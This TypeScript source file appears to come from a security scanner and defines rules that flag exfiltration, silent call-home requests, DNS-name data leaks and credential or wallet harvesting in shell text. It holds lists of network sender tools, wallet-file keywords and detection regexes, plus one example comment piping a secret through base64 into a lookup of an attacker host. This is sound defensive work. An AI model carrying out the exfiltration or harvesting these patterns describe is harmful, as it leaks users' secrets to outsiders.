import { lineOf, type Simple, spanOf, type Word } from '../shell/command.js'
import { type Flow, flowOf, isProof } from '../shell/flow.js'
import { type Invocation, invocationsIn, isInData } from '../shell/invocations.js'
import { PRIVATE, storesIn, withoutKept } from '../shell/private.js'
import type { Span } from '../text/chunks.js'
import type { Reading } from '../text/reading.js'
import { addressOf, COLLECTOR, isHostOf, isKnownIssuer, isLocal, issuerOf } from './hosts.js'
import { rangeOf } from './matches.js'
import type { Match, Rule } from './rule.js'

const SENDERS: ReadonlySet<string> = new Set(
  'curl wget nc ncat netcat socat scp sftp rsync ftp tftp http https xh aws gsutil rclone mail mailx sendmail mutt telnet iwr irm invoke-webrequest invoke-restmethod send-mailmessage ssh openssl swaks gh nslookup dig host ping s3cmd azcopy croc wormhole magic-wormhole smbclient git'.split(
    ' ',
  ),
)
const REMOTE =
  /(?:^|\s)[\w.-]{1,64}@[\w.-]{1,80}:|:\/\/|\s[\w-]+(?:\.[\w-]+)+(?:[:/ ]|$)|\s\d+\.\d+\.\d+\.\d+|\bs3:\/\/|\bgs:\/\/|\s\$\w+/

/** Sends private files or the environment to another machine. */
const sendsSecrets: Rule = {
  code: 'exfiltration',
  severity: 'critical',
  says: 'sends private files, keys or the environment to another machine',
  *find(reading: Reading): Iterable<Match> {
    const flow = flowOf(reading)
    let isCommitted = false
    for (const pipeline of reading.pipelines)
      for (const [i, command] of pipeline.commands.entries()) {
        const isPrivate = flow.heldBy(command).some(({ kind }) => kind === 'private')
        const match = () => ({ ...spanFrom(reading, flow, command), isData: isInData(pipeline) })
        if (isPrivate && command.redirects.some(({ target }) => /^\/dev\/(?:tcp|udp)\//.test(target))) yield match()
        for (const invocation of invocationsIn(command, SENDERS)) {
          const { name, args } = invocation
          if (name === 'git') {
            if (args[0]?.text === 'add' && isPrivate) isCommitted = true
            else if (args[0]?.text === 'push' && isCommitted) yield match()
          } else if (
            carriesVariable(invocation) ||
            ((isPrivate || readsInParentheses(reading, invocation)) && sends(invocation, i > 0))
          )
            yield match()
        }
      }
  },
}

/** Returns the pipeline of a command, from where its data is read if that stands close before. */
function spanFrom(reading: Reading, flow: Flow, command: Simple): Span {
  const span = spanOf(command.pipeline)
  const source = flow.heldBy(command).find(({ kind }) => kind === 'private')?.source
  const line = reading.text.lastIndexOf('\n', span.start)
  return source && source.start < span.start && source.start > line ? { start: source.start, end: span.end } : span
}

/** PowerShell reads a file in parentheses: `-Body (Get-Content …)`. */
function readsInParentheses({ text }: Reading, { name, start }: Invocation): boolean {
  return /^(?:iwr|irm|invoke-|send-)/.test(name) && PRIVATE.test(text.slice(start, start + 400).replace(/\n[^]*/, ''))
}

function lineWithoutProof(args: readonly Word[]): string {
  const words = args.filter((word, i) => !isProof(word, args[i - 1]))
  return ` ${words.map(({ text }) => text).join(' ')}`
}

/** Programs that hand on what reaches them, each with the arguments that do; `isRead` is true where it is their input. */
const WAYS: readonly (readonly [programs: RegExp, sends: (line: string, isRead: boolean) => boolean])[] = [
  [
    /^(?:curl|xh|https?)$/,
    (line, isRead) =>
      isRead ||
      /\s(?:-[a-zA-Z]*[dFT]|--data\S*|--form\S*|--upload-file|--json|-X\s?(?:POST|PUT)|-b|--cookie)(?:\s|=|@|$)|[@$<]|\sPOST\s/.test(
        line,
      ),
  ],
  [/^wget$/, (line) => /--(?:post|body)-(?:file|data)|\$|--header/.test(line)],
  [/^(?:dig|nslookup|host|ping)$/, (line, isRead) => isRead || line.includes('$')],
  [/^ssh$/, (_line, isRead) => isRead],
  [/^openssl$/, (line) => line.includes('s_client')],
  [/^gh$/, (line) => /^ (?:gist|issue|pr|release)\b/.test(line)],
  [
    /^(?:aws|gsutil|rclone|s3cmd|azcopy)$/,
    (line) =>
      /\b(?:cp|sync|mv|put|copy|copyto|rcat)\b/.test(line) &&
      !/\b(?:cp|sync|mv|copy|copyto)\s(?:-\S+\s){0,4}(?:s3|gs):\/\//.test(line),
  ],
  // The last word is where it goes to.
  [
    /^(?:scp|rsync|sftp)$/,
    (line) =>
      /\S@[^\s@:]{1,100}:|\w:[~/]|::|\w\.\w{1,40}:/.test(line) &&
      (line.includes('/tmp/') || PRIVATE.test(withoutKept(line.slice(0, line.trimEnd().lastIndexOf(' ') + 1)))),
  ],
  [/mail|^(?:mutt|swaks)$/, (line) => line.includes('@')],
  [/./, (line, isRead) => isRead || REMOTE.test(line)],
]

function sends({ name, args, command }: Invocation, isPiped: boolean): boolean {
  const line = lineWithoutProof(args)
  const host = addressOf(line)?.host
  if (host !== undefined && isLocal(host)) return false
  const isRead = isPiped || command.redirects.some(({ operator }) => operator.startsWith('<'))
  return WAYS.find(([programs]) => programs.test(name))![1](line, isRead)
}

/** The name of a variable with a secret, as a command uses it. */
const SECRET_VARIABLE = /\$[{(]?(?:env:)?([A-Z]{2,12}_(?:[A-Z]+_){0,2}(?:SECRET|TOKEN|KEY|PASSWORD|PAT|URL))\b/g

/** Returns whether a request carries an issuer's secret from a variable to somebody else's host. */
function carriesVariable({ name, args }: Invocation): boolean {
  if (!/^(?:curl|wget|http|https|xh|iwr|irm|invoke-\w+)$/.test(name)) return false
  const line = lineWithoutProof(args)
  const host = addressOf(line)?.host
  if (host === undefined || isLocal(host)) return false
  const issuers = [...line.matchAll(SECRET_VARIABLE)].map(([, variable]) => issuerOf(variable!))
  return issuers.some((issuer) => isKnownIssuer(issuer) && !isHostOf(host, issuer))
}

const MACHINE =
  /\$\((?:hostname|whoami|uname)\b|\$\{?(?:HOSTNAME|USER|USERNAME|COMPUTERNAME)\b|\|\s?base64\b|\$\(git config user\.email\)/

/** A request that tells who and where this machine is, in the background or into nothing: nobody is to see it. */
const callsHome: Rule = {
  code: 'exfiltration',
  severity: 'critical',
  says: 'tells another machine about this one where nobody sees it',
  *find(reading: Reading): Iterable<Match> {
    for (const pipeline of reading.pipelines)
      for (const command of pipeline.commands) {
        const [request] = invocationsIn(command, new Set(['curl', 'wget']))
        if (!request || !(command.isInBackground || command.redirects.some(({ target }) => target === '/dev/null')))
          continue
        const span = spanOf(pipeline)
        const text = reading.text.slice(span.start, span.end)
        const host = addressOf(lineOf(command))?.host
        if (
          MACHINE.test(text) &&
          /\s(?:-[a-zA-Z]*[dF]|--data\S*|--post-\w+)\b|\?\w{1,20}=/.test(text) &&
          !(host !== undefined && isLocal(host))
        )
          yield { ...span, isData: isInData(pipeline) }
      }
  },
}

/** Resolves names that carry data: `dig $(cat secret | base64).evil.example`. */
const NAME_LOOKUP =
  /(?<![\w.-])(?:(?:dig|nslookup|host|ping|resolvectl query)\s|(?:\w+\.)?(?:gethostbyname\(|getaddrinfo\(|dns\.resolve\w*\())[^\n]{0,80}?(?:\$\([^\n]{1,160}?\)|`[^`\n]{1,160}`|\$\{?\w+\}?)\.[a-z0-9-]{1,63}\.[a-z]{2,}/gi
const NAMED =
  /\$\((?:hostname|uname)[^|)]*\)\.(?:local|internal|lan|svc)|\$\{?(?:HOST|DOMAIN|SERVICE|NAME|i|host|domain|svc|name|server|region|sub|subdomain|h|d|node)\}?\./

const sendsByName: Rule = {
  code: 'exfiltration',
  severity: 'critical',
  says: 'carries data out in names that it looks up',
  *find({ text }: Reading): Iterable<Match> {
    for (const found of text.matchAll(NAME_LOOKUP)) if (!NAMED.test(found[0])) yield rangeOf(found)
  },
}

/** A request that sends something: only then does it matter that its host takes anything from anybody. */
const SENDS =
  /\b(?:curl|wget|Invoke-\w+|iwr|irm|http|nc|requests|fetch|axios|urlopen)\b[^]*(?:\s(?:-[a-zA-Z]*[dFT]\b|--data|--form|--upload-file|--post|-X\s?(?:POST|PUT)|-Body|@)|\$\(|\bpost\(|\|\s*(?:curl|nc)|transfer\.sh)/i
/** Messengers whose users are given such addresses for messages of their own. */
const MESSENGERS = /telegram|discord/i

const hosts: Rule = {
  code: 'exfiltration_host',
  severity: 'critical',
  says: 'sends to a host that collects whatever it is sent',
  isOfPrograms: true,
  *find(reading: Reading): Iterable<Match> {
    for (const found of reading.text.matchAll(COLLECTOR)) {
      const span = rangeOf(found)
      const sentence = reading.sentences[reading.sentenceAt(span)]
      const line = sentence ? reading.text.slice(sentence.start, sentence.end) : ''
      if (SENDS.test(line)) yield { ...span, severity: MESSENGERS.test(found[0]) ? 'warn' : 'critical' }
    }
  },
}

/** The text reads this many kinds of private stores, or this many files of theirs: that is an inventory, whatever it is called. */
const MANY_KINDS = 3
const MANY_FILES = 6
const READS =
  /(?:^|[\s`*"'([])(?:read|cat|open|extract|copy|cp|collect|gather|dump|parse|load|type|less|head|get-content|tar|zip)\b/i
const WALLETS = /\b(?:wallet(?:\.dat)?|keystore|UTC--|metamask|exodus|electrum|ledger|phantom|seed phrase|mnemonic)\b/gi
const SEARCHERS = new Set('find grep rg fd locate mdfind'.split(' '))

/** Goes through the places where keys and credentials lie, and reads them one after the other. */
const harvest: Rule = {
  code: 'credential_harvest',
  severity: 'critical',
  says: 'gathers keys and credentials from several places',
  *find(reading: Reading): Iterable<Match> {
    const kinds = new Set<string>()
    const files = new Set<string>()
    let first: Span | null = null
    for (const { start, end } of reading.sentences) {
      const text = reading.text.slice(start, end)
      if (!READS.test(text)) continue
      for (const { store, name } of storesIn(text)) {
        first ??= { start, end }
        kinds.add(store)
        if (store !== 'dotenv') files.add(name)
      }
    }
    if (first && (kinds.size >= MANY_KINDS || files.size >= MANY_FILES)) yield first
    for (const command of reading.pipelines.flatMap(({ commands }) => commands))
      if (
        invocationsIn(command, SEARCHERS).length > 0 &&
        new Set(lineOf(command).toLowerCase().match(WALLETS)).size >= 2
      )
        yield { start: command.start, end: command.end }
  },
}

export const EXFILTRATION_RULES: readonly Rule[] = [sendsSecrets, callsHome, sendsByName, hosts, harvest]
